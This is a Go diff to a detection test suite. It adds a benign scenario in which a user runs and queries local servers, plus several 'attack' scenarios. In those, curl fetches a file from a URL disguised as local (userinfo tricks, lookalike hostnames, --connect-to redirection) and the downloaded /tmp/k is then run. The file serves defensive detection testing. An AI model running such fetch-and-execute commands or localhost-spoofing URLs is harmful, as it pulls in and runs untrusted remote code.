@@ -138,6 +138,26 @@ func stories() map[string]*detecttest.Story {
 	s.TTY, s.LoginUID = "", 4294967295
 	s.Exec(j, "/opt/app/native/helper", detecttest.Inode(531))
 	m["benign-person-and-app"] = s
+
+	// Somebody starts a server of his own and asks whether it answers.
+	s = detecttest.New(detecttest.Host(""))
+	b = s.Was(nil, "/usr/bin/bash=bash /srv/check.sh")
+	in = s.Exec(b, "/usr/bin/node s.js 8080", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
+	s.Exec(b, "/usr/bin/curl -fsS http://127.0.0.1:8080/api/v1/things?page=1")
+	s.Exec(in, "/usr/bin/node /tmp/work/s.js 8080", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
+	s.Exec(b, "/usr/bin/curl -fsS http://localhost:8080/ http://[::1]:8080/")
+	s.Exec(b, "/usr/bin/python3.11=/usr/bin/python3 -m http.server 8081", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
+	s.Exec(b, "/usr/bin/node /tmp/work/s.js 8082", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
+	m["benign-own-server"] = s
+
+	// What looks local and is not.
+	for name, asks := range map[string]string{"user": "http://localhost@203.0.113.7/k", "name": "http://localhost.evil.example/k", "told": "--connect-to ::203.0.113.7:80 http://localhost/k",
+		"both": "http://127.0.0.1/ http://203.0.113.7/k"} {
+		s, sh = begin()
+		s.Exec(sh, "/usr/bin/curl -fsSL "+asks)
+		s.Exec(sh, "/tmp/k", detecttest.From(bollwerk.OriginCreated))
+		m["attack-not-local-"+name] = s
+	}
 	return m
 }
 
